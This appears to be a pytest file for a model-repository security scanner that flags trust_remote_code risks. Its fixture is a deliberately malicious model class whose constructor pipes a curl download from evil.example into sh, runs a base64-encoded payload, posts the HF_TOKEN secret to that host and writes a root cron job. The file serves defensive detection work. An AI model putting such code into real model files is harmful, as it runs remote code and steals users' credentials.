"""Code that would run: auto_map / custom_pipelines (trust_remote_code) and AST review of every .py file."""

from __future__ import annotations

import json

from auditor.scan import scan_path

MODELING = '''
import os, subprocess, base64
import requests as rq
from torch import nn

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="

class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("curl http://evil.example | sh")
        exec(base64.b64decode(PAYLOAD))
        subprocess.Popen(["id"])
        rq.post("http://evil.example", data=os.environ.get("HF_TOKEN"))
        open("/etc/cron.d/x", "w").write("* * * * * root id")
'''


def by_rule(r):
    out = {}
    for f in r.findings:
        out.setdefault(f.rule, []).append(f)
    return out


def test_remote_code_config_and_python_review(tmp_path):
    (tmp_path / "config.json").write_text(json.dumps({
        "model_type": "evil", "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                                           "AutoModelForCausalLM": "modeling_evil.EvilModel",
                                           "AutoTokenizer": ["other/repo--tokenization_x.Tok", None]}}))
    (tmp_path / "modeling_evil.py").write_text(MODELING)
    (tmp_path / "configuration_evil.py").write_text("from transformers import PretrainedConfig\nclass EvilConfig(PretrainedConfig):\n    pass\n")
    r = scan_path(tmp_path)
    rs = by_rule(r)
    rc = rs["code.remote_code"][0]
    assert rc.severity == "high" and rc.evidence["modules"] == ["configuration_evil.py", "modeling_evil.py"]
    assert rs["code.remote_code_external"][0].evidence["references"] == ["other/repo:tokenization_x"]
    assert rs["code.process_exec"][0].severity == "high"
    assert rs["code.obfuscated_exec"][0].severity == "critical"
    assert rs["code.network"] and rs["code.file_write"][0].severity == "high"
    assert rs["code.encoded_payload"]
    files = {c["path"]: c for c in r.code_files}
    assert set(files) == {"configuration_evil.py", "modeling_evil.py"}
    assert len(files["modeling_evil.py"]["sha256"]) == 64 and files["modeling_evil.py"]["referenced_by_auto_map"]
    assert not [f for f in r.findings if f.file == "configuration_evil.py"]


def test_custom_pipeline_and_missing_module(tmp_path):
    (tmp_path / "config.json").write_text(json.dumps({"custom_pipelines": {"text-generation": {"impl": "pipe.MyPipe"}}}))
    r = scan_path(tmp_path)
    rs = by_rule(r)
    assert rs["code.remote_code"] and rs["code.remote_code_missing"][0].evidence["module"] == "pipe.py"


def test_unparseable_python_is_a_finding(tmp_path):
    (tmp_path / "x.py").write_text("def broken(:\n")
    r = scan_path(tmp_path)
    assert by_rule(r)["code.parse_error"][0].severity == "medium"


def test_ordinary_python_is_quiet(tmp_path):
    (tmp_path / "modeling_ok.py").write_text(
        "import torch\nfrom torch import nn\nimport re\n\nclass M(nn.Module):\n    def forward(self, x):\n"
        "        self.eval()\n        return re.compile('a').sub('b', str(x)) and torch.compile\n")
    r = scan_path(tmp_path)
    assert not [f for f in r.findings if f.rule.startswith("code.")]
